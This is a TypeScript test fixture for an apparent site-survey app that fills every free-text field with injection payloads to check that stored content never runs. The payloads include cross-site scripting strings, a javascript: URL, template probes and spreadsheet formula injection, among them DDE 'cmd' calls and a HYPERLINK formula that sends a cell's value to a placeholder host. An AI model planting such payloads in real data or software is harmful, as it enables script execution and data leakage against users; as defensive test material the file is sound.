/**
 * Hostile text for the "content never runs" tests: HTML and script
 * injection, a `javascript:` URL, template syntax, and spreadsheet formula
 * injection (OWASP "CSV Injection" examples, from memory), put into every
 * free-text field a survey has. Each payload that could run script sets
 * `window.__pwned` or opens a dialog, so a test can tell that it ran.
 */
import type { Survey } from '../../../src/survey/model.ts';

export const payloads = {
  img: `<img src=x onerror="window.__pwned='img'">`,
  script: `<script>window.__pwned='script'</script>`,
  svg: `"><svg onload="window.__pwned='svg'">`,
  jsUrl: `javascript:window.__pwned='url'`,
  template: '{{7*7}} ${7*7} <%= 7*7 %>',
  formula: `=cmd|' /C calc'!A0`,
  hyperlink: `=HYPERLINK("http://example.invalid/?leak="&A1,"open")`,
  plus: `+1+cmd|' /C calc'!A0`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
  alert: `<img src=x onerror=alert('pwned')>`,
  style: `<style>body{display:none}</style>`,
} as const;

/**
 * `base` (a valid survey, e.g. the demo) with new ids under `id` and every
 * free-text field holding payloads. Custom proposals (no catalog link) get
 * formula payloads as names, so they reach the order list.
 *
 * @example hostileSurvey(demoSurvey(), 'hostile').name //=> 'Mill <img src=x onerror=…>'
 */
export function hostileSurvey(base: Survey, id: string): Survey {
  const survey = structuredClone(base);
  survey.id = id;
  survey.name = `Mill ${payloads.img}`;
  survey.site = { name: `Site ${payloads.svg}`, address: payloads.jsUrl };
  survey.client = { name: `Client ${payloads.template}`, contact: payloads.formula };
  survey.preparedBy = payloads.alert;
  survey.notes = `${payloads.script}\n${payloads.style}`;
  survey.rooms.forEach((room, r) => {
    room.id = `${id}-room-${r}`;
    room.name = r === 0 ? payloads.hyperlink : `Room ${r} ${payloads.svg}`;
    room.notes = `${payloads.img} ${payloads.jsUrl}`;
    room.entries.forEach((entry, e) => {
      entry.id = `${id}-room-${r}-entry-${e}`;
      entry.existing.description = e === 0 ? payloads.formula : `Fixture ${payloads.script}`;
      entry.notes = `${payloads.template} ${payloads.alert}`;
      entry.conditions.circuitLabel = payloads.plus;
      if (entry.proposed && entry.proposed.catalogId === undefined) entry.proposed.name = payloads.at;
    });
  });
  return survey;
}

/** The name given to the hostile catalog product (its SKU is {@link payloads}.formula). */
export const hostileProductName = `Lamp ${payloads.svg}`;
